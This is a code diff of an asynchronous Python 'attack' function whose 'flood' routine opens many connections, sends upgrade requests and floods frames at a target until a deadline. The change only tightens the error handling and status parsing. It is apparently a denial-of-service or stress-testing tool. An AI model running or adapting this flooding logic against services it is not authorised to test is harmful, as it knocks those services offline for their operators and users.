@@ -33,14 +33,17 @@ async def attack(target: Target, until: float) -> None:
 
         async def flood(place: int) -> str:
             reader, writer = await target.open_connection()
-            writer.write(_upgrade_request(client, paths[place % 2]))
-            status = (await reader.readline()).split(b" ")[1].decode()
-            with suppress(ConnectionError):
-                while time.monotonic() < until:
-                    writer.write(FRAMES)
-                    await writer.drain()
-            writer.transport.abort()
-            return "ended" if status == "101" else status
+            try:
+                writer.write(_upgrade_request(client, paths[place % 2]))
+                _, _, answer = (await reader.readline()).partition(b" ")
+                with suppress(ConnectionError):
+                    while time.monotonic() < until:
+                        writer.write(FRAMES)
+                        await writer.drain()
+            finally:
+                writer.transport.abort()
+            status = answer[:3].decode()
+            return "ended" if status == "101" else status or "closed"
 
         await repeat(target, target.scale(SOCKETS), until, flood)
     finally:
